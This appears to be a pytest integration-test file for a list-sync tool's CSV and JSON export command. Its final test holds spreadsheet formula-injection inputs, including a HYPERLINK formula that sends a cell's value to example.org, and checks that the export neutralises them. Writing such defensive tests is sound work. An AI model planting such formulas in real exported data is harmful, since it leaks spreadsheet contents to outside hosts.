"""All items in a file, through pages, against a scripted agent."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest

from listsync.protocol import FORMULAS, Exit
from listsync.providers.file.reader import ListFile
from listsync.providers.file.source import FileOptions, FileSource
from tests.integration.ctl.conftest import Agent, Ctl
from tests.integration.ctl.test_commands import BROUGHT

_HEAD = (
    "title,kind,tmdb_id,list,status,at,brought_by,requested_as,requested_at,run_id,"
    "year,imdb_id,tvdb_id,excluded_by,list_on_hold\n"
)


def item(title: str) -> dict[str, Any]:
    return {
        "title": title,
        "kind": "movie",
        "tmdb_id": 348,
        "list": "films",
        "status": "requested",
        "at": "2020-01-01T00:00:00Z",
        **BROUGHT,
        "year": 1979,
        "imdb_id": "tt0078748",
        "tvdb_id": None,
    }


@pytest.fixture
def pages(agent: Agent) -> Agent:
    """Give an agent that has three items and tells two at a time."""
    agent.script = {
        "items": [
            {"total": 3, "next": "c", "items": [item("Alien"), item('"Crash", again')]},
            {"total": 3, "items": [item("映画")]},
        ]
    }
    return agent


def test_all_items_are_written_for_a_spreadsheet(pages: Agent, ctl: Ctl, folder: Path) -> None:
    target = folder / "all.csv"
    ran = ctl("items", "--export", str(target), "--list", "films")
    assert (ran.code, ran.out) == (Exit.OK, "")
    assert "3 items are in " in ran.err
    text = target.read_text(encoding="utf-8")
    assert text.startswith(_HEAD)
    found = list(csv.DictReader(text.splitlines()))
    assert [row["title"] for row in found] == ["Alien", '"Crash", again', "映画"]
    assert (found[0]["brought_by"], found[0]["requested_as"]) == ("films", "family")
    ids = [found[0][name] for name in ("tmdb_id", "imdb_id", "tvdb_id", "year")]
    assert ids == ["348", "tt0078748", "", "1979"]
    assert pages.asked == [
        ("items", {"list": "films", "limit": 200, **cursor}) for cursor in ({}, {"cursor": "c"})
    ]
    assert [path.name for path in folder.glob("*.csv*")] == ["all.csv"]


def test_what_goes_to_stdout_is_utf_8_whatever_the_terminal_has(pages: Agent, ctl: Ctl) -> None:
    ran = ctl("items", "--export", "-", PYTHONIOENCODING="ascii")
    assert (ran.code, ran.err) == (Exit.OK, "")
    assert ran.out.startswith(_HEAD)
    assert "映画" in ran.out
    assert len(pages.asked) == 2


def test_all_items_are_written_for_a_program(pages: Agent, ctl: Ctl, folder: Path) -> None:
    target = folder / "all.JSON"
    assert ctl("items", "crash", "--export", str(target)).code == Exit.OK
    found = json.loads(target.read_text(encoding="utf-8"))
    assert found["items"] == [item("Alien"), item('"Crash", again'), item("映画")]
    assert pages.asked[0][1]["query"] == "crash"


@pytest.mark.parametrize(
    ("options", "begin"), [((), _HEAD), (("--json",), '{\n "schema_version": 2')]
)
def test_all_items_are_written_to_stdout(
    pages: Agent, ctl: Ctl, options: tuple[str, ...], begin: str
) -> None:
    ran = ctl("items", "--export", "-", *options)
    assert ran.out.startswith(begin)
    assert ran.err == ""
    assert len(pages.asked) == 2


def test_no_items_are_an_empty_table(agent: Agent, ctl: Ctl) -> None:
    agent.script = {"items": {"total": 0, "items": []}}
    assert ctl("items", "--export", "-").out == _HEAD


def test_a_file_that_cannot_be_written_is_said(pages: Agent, ctl: Ctl, folder: Path) -> None:
    ran = ctl("items", "--export", str(folder / "nowhere" / "all.csv"))
    assert (ran.code, ran.err.count("\n")) == (Exit.FAILED, 1)
    assert "cannot write" in ran.err
    assert pages.asked


@pytest.mark.parametrize(
    "line", ["--export all.txt", "--export all", "--export a.csv --limit 3", "--export"]
)
def test_wrong_usage_is_said(agent: Agent, ctl: Ctl, line: str) -> None:
    ran = ctl("items", *line.split())
    assert (ran.code, ran.err.count("\n")) == (Exit.USAGE, 1)
    assert agent.asked == []


_FORMULAS = (
    '=HYPERLINK("http://example.org/?t="&A2,"look")',
    *("+1", "-2+3", "@SUM(A1)", "＝1", "'=quoted", "''+quoted", "'s avonds", "Alien"),  # noqa: RUF001
)


def test_no_title_is_a_formula_in_a_table_and_reading_it_gives_each_back(
    agent: Agent, ctl: Ctl, folder: Path
) -> None:
    titles = [*_FORMULAS, "\t=tab", "\r=return"]
    agent.script = {"items": {"total": len(titles), "items": [item(one) for one in titles]}}
    target = folder / "all.csv"
    assert ctl("items", "--export", str(target)).code == Exit.OK
    with target.open(encoding="utf-8", newline="") as file:
        cells = [row["title"] for row in csv.DictReader(file)]
    assert [cell for cell in cells if cell.startswith(FORMULAS)] == []
    assert cells[-3] == "Alien"
    read = ListFile(FileSource(target), FileOptions()).fetch(None)
    assert [one.title for one in read.entries] == [*_FORMULAS, "=tab", "=return"]
